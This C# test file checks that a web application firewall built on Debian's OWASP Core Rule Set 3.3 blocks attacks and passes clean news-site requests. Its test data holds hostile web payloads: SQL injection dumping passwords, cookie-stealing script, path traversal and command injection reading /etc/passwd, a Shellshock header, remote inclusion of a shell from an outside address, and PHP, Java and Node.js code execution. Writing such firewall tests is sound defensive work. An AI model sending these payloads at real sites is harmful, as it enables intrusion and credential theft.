using System.Text;
using Karaula.Waf.Engine;
using Karaula.Waf.Requests;
using Karaula.Waf.Rules;

namespace Karaula.Waf.Tests.Rules;

/// <summary>The rules of Debian's package <c>modsecurity-crs</c>, as it is installed: CRS 3.3.</summary>
public sealed class DebianRuleSetTests(DebianRuleSetTests.Installed installed) : IClassFixture<DebianRuleSetTests.Installed>
{
    private const string Agent = "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n";
    private const string Head = "Host: www.example.org\r\nAccept: text/html\r\n";

    [Fact]
    public void FromDebian_InstalledPackage_IsCopiedCompiledAndListed()
    {
        var (rules, root) = (installed.RuleSet, installed.Root);

        Assert.StartsWith("crs-3.3", rules.Name, StringComparison.Ordinal);
        Assert.InRange(rules.Rules, 500, 2000);
        Assert.Equal([rules], RuleSet.List(root));
        Assert.True(File.Exists(Path.Combine(root, rules.Name, "rules", "lfi-os-files.data")));
        Assert.True(File.Exists(Path.Combine(root, rules.Name, "crs-setup.conf")));
        Assert.True(File.Exists(Path.Combine(root, rules.Name, "rules", "REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf")));
    }

    [Fact]
    public void Load_InstalledPackage_WarnsOfWhatThisProgramDoesNotHave()
    {
        Assert.All(installed.Policy.Warnings, warning => Assert.Matches("@(rbl|geoLookup) matches nothing", warning.Message));
        Assert.Contains(installed.Policy.Components, component => component.StartsWith("OWASP_CRS/3.3", StringComparison.Ordinal));
    }

    [Fact]
    public void Load_TheFileThatDebianIncludes_IsTheSameRules()
    {
        var file = Path.Combine(RuleInstaller.Debian.Rules, "owasp-crs.load");
        Assert.SkipUnless(File.Exists(file), $"there is no {file}");

        Assert.Equal(installed.Policy.RuleIds.Order(), WafPolicy.LoadFiles([file]).RuleIds.Order());
    }

    [Theory]
    [InlineData(942, "SQL injection", "/?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--%20-")]
    [InlineData(942, "SQL injection, blind", "/?id=1%20AND%20SLEEP(5)")]
    [InlineData(941, "cross-site scripting", "/?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")]
    [InlineData(941, "cross-site scripting by event", "/?q=%3Cimg%20src=x%20onerror=alert(1)%3E")]
    [InlineData(930, "local file inclusion", "/?file=../../../../etc/passwd")]
    [InlineData(931, "remote file inclusion", "/?page=http://203.0.113.9/shell.txt%3F")]
    [InlineData(932, "command execution", "/?host=127.0.0.1;cat%20/etc/passwd")]
    [InlineData(932, "Shellshock", "/", "X-Probe: () { :;}; /bin/bash -c id\r\n")]
    [InlineData(933, "PHP injection", "/?c=%3C?php%20system(%24_GET[1]);%20?%3E")]
    [InlineData(921, "response splitting", "/?l=x%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0aHTTP/1.1%20200%20OK")]
    [InlineData(913, "scanner", "/", "User-Agent: sqlmap/1.7 (https://sqlmap.org)\r\n")]
    [InlineData(943, "session fixation", "/?q=%3Cscript%3Edocument.cookie=%27PHPSESSID=1%27%3C/script%3E&jsessionid=x", "Referer: http://attacker.example/\r\n")]
    [InlineData(944, "Java", "/?x=java.lang.Runtime.getRuntime().exec(%27id%27)")]
    [InlineData(934, "Node.js", "/?x=_%24%24ND_FUNC%24%24_function()%7Bchild_process.exec(%27id%27)%7D()")]
    [InlineData(920, "protocol enforcement", "/x.bak", "Content-Length: 3x\r\n")]
    [InlineData(911, "method", "/", "", "TRACK")]
    public void Evaluate_Attack_IsBlockedByTheRulesOfItsClass(int family, string what, string target, string header = "", string method = "GET")
    {
        var agent = header.StartsWith("User-Agent", StringComparison.Ordinal) ? "" : Agent;

        var (verdict, ids) = Run($"{method} {target} HTTP/1.1\r\n{Head}{agent}{header}\r\n");

        Assert.Equal((WafAction.Deny, 403, 949110), (verdict.Action, verdict.Status, verdict.RuleId));
        Assert.True(ids.Exists(id => id / 1000 == family), $"{what}: {string.Join(' ', ids)}");
    }

    [Theory]
    [InlineData("application/x-www-form-urlencoded", "user=admin&password=%27%20or%201=1--%20", 942)]
    [InlineData("application/json", "{\"q\":\"<script>alert(1)</script>\"}", 941)]
    [InlineData("text/xml", "<a><b>/etc/passwd</b></a>", 930)]
    [InlineData("multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n<?php ?>\r\n--b--\r\n", 933)]
    public void Evaluate_AttackInABody_IsBlocked(string type, string body, int family)
    {
        var (verdict, ids) = Run($"POST /form HTTP/1.1\r\n{Head}{Agent}Content-Type: {type}\r\nContent-Length: {body.Length}\r\n\r\n{body}");

        Assert.Equal(949110, verdict.RuleId);
        Assert.Contains(ids, id => id / 1000 == family);
    }

    [Theory]
    [InlineData("GET", "/", "")]
    [InlineData("GET", "/vijesti/politika/izbori-2026?strana=2&red=najnovije", "")]
    [InlineData("GET", "/pretraga?q=cijena+struje+i+vode", "")]
    [InlineData("GET", "/wp-content/themes/news/style.css?ver=6.4.2", "Referer: https://www.example.org/\r\n")]
    [InlineData("HEAD", "/rss.xml", "")]
    [InlineData("GET", "/clanak/12345", "Cookie: session=8a7f0c2de1b94c0f; consent=all\r\n")]
    public void Evaluate_CleanRequest_Passes(string method, string target, string header) =>
        Assert.Equal(WafAction.Pass, Run($"{method} {target} HTTP/1.1\r\n{Head}{Agent}{header}\r\n").Verdict.Action);

    [Fact]
    public void Evaluate_CleanForm_Passes()
    {
        const string body = "ime=Jovana&poruka=Dobar+dan%2C+kada+izlazi+novi+broj%3F";
        Assert.Equal(
            WafAction.Pass,
            Run($"POST /kontakt HTTP/1.1\r\n{Head}{Agent}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {body.Length}\r\n\r\n{body}").Verdict.Action);
    }

    [Fact]
    public void Evaluate_SourceThatWasFlagged_IsRefusedUntilTheFlagExpires()
    {
        // What a rule of one's own notes about an address, CRS 3.3 refuses from then on (rule 910000).
        const string own = """
            SecAction "id:900700,phase:1,nolog,pass,setvar:tx.do_reput_block=1,setvar:tx.reput_block_duration=300"
            """;
        const string trap = """
            SecRule REQUEST_FILENAME "@streq /trap" "id:10001,phase:2,pass,nolog,setvar:ip.reput_block_flag=1,setvar:'ip.reput_block_reason=trap',expirevar:'ip.reput_block_flag=300'"
            """;
        var clock = new Microsoft.Extensions.Time.Testing.FakeTimeProvider();
        var files = RuleFolder.Expand([Path.Combine(installed.Root, installed.RuleSet.Name)]).Select(file => (file, File.ReadAllText(file))).ToList();
        files.Insert(1, ("own.conf", own));
        files.Add(("trap.conf", trap));
        var policy = WafPolicy.Load(files, host: new WafHost { Time = clock });
        string Get(string target) => $"GET {target} HTTP/1.1\r\n{Head}{Agent}\r\n";

        Assert.Equal(WafAction.Pass, Run(Get("/"), policy).Verdict.Action);
        Assert.Equal(WafAction.Pass, Run(Get("/trap"), policy).Verdict.Action);
        Assert.Contains(910000, Run(Get("/"), policy).Ids);
        clock.Advance(TimeSpan.FromSeconds(301));
        Assert.DoesNotContain(910000, Run(Get("/"), policy).Ids);
    }

    private (WafVerdict Verdict, List<long> Ids) Run(string request, WafPolicy? policy = null)
    {
        using var transaction = (policy ?? installed.Policy).Begin();
        transaction.SetConnection("198.51.100.7"u8, 40000, "192.0.2.1"u8, 80);
        var raw = RawRequest.Read(Encoding.Latin1.GetBytes(request), out var error);
        // What a server would refuse by itself is given to the rules all the same.
        if (raw is null)
            return Feed(transaction, request, error!);
        return (raw.Evaluate(transaction), [.. transaction.Matches.Select(match => match.RuleId)]);
    }

    private static (WafVerdict Verdict, List<long> Ids) Feed(WafTransaction transaction, string request, string error)
    {
        var lines = request.Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        var parts = lines[0].Split(' ');
        Assert.True(parts.Length == 3, error);
        transaction.SetRequestLine(Encoding.Latin1.GetBytes(parts[0]), Encoding.Latin1.GetBytes(parts[1]), Encoding.Latin1.GetBytes(parts[2]));
        foreach (var line in lines[1..])
            transaction.AddRequestHeader(Encoding.Latin1.GetBytes(line.Split(':')[0]), Encoding.Latin1.GetBytes(line[(line.IndexOf(':', StringComparison.Ordinal) + 2)..]));
        var verdict = transaction.EvaluateRequestHeaders();
        return (verdict.Action == WafAction.Pass ? transaction.EvaluateRequestBody() : verdict, [.. transaction.Matches.Select(match => match.RuleId)]);
    }

    /// <summary>The package, installed once for all tests; without it they are skipped.</summary>
    public sealed class Installed : IDisposable
    {
        private readonly string _folder = Directory.CreateTempSubdirectory("debian-crs").FullName;
        private readonly Lazy<(RuleSet, WafPolicy)> _installed;

        public Installed() => _installed = new Lazy<(RuleSet, WafPolicy)>(() =>
        {
            Assert.SkipUnless(
                Directory.Exists(Path.Combine(RuleInstaller.Debian.Rules, "rules")), "Debian's package modsecurity-crs is not installed (apt install modsecurity-crs)");
            var set = new RuleInstaller(_folder, TimeProvider.System).FromDebian();
            return (set, TunedRules.Load(RuleFolder.Expand([Path.Combine(_folder, set.Name)]), new WafTuning()));
        });

        public string Root => _folder;

        public RuleSet RuleSet => _installed.Value.Item1;

        public WafPolicy Policy => _installed.Value.Item2;

        public void Dispose() => Directory.Delete(_folder, recursive: true);
    }
}
